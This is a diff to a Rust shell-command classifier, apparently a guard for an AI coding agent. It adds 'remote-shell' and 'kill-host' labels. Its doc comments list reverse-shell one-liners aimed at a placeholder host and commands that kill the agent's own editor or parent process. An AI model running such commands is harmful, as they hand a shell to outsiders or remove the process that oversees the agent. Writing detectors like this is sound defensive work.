@@ -35,6 +35,11 @@
 //!   computed at run time (`… | base64 -d | sh`, `eval "$(…)"`);
 //! * `kill-init`: `kill -9 1`, `kill … -1`, `killall5`, `pkill`/`killall` of every process
 //!   (`pkill -f .`, `pkill -u me`);
+//! * `kill-host`: a command that may kill the agent's own host or editor (`pkill node`,
+//!   `killall Code`, `pkill -f cline`, `kill $PPID`, `taskkill /IM node.exe`,
+//!   `Stop-Process -Name node`; see [`host_kill`]);
+//! * `remote-shell`: a shell handed to the network (`bash -i >& /dev/tcp/h/p 0>&1`,
+//!   `nc -e /bin/sh`, `socat TCP:h:p EXEC:sh`, `nc h p | sh`; see [`remote_shell`]);
 //! * `shutdown`: `shutdown`, `reboot`, `halt`, `poweroff`, `init 0|6`, `systemctl poweroff`;
 //! * `force-push`: `git push` with `-f`, `--force`, `--force-with-lease[=…]`, `--mirror`, a
 //!   `+refspec`, or any abbreviation git accepts for them (`--force-w`, `--mirr`; an
@@ -49,6 +54,8 @@
 //! such as `-name` narrows them), from `echo`/`printf` words or `ls`, and are unknown when
 //! read from a file or an unknown command.
 
+mod host_kill;
+mod remote_shell;
 mod targets;
 
 use std::borrow::Cow;
@@ -251,6 +258,12 @@ impl<'a> Line<'a> {
         }
         if shutdown(key, name, args) {
             add_label(&mut labels, "shutdown");
+        }
+        if remote_shell::detect(cmds, c) {
+            add_label(&mut labels, "remote-shell");
+        }
+        if host_kill::detect(cmds, index, c) {
+            add_label(&mut labels, "kill-host");
         }
         if key == names::GIT {
             labels.extend(git_push(args));
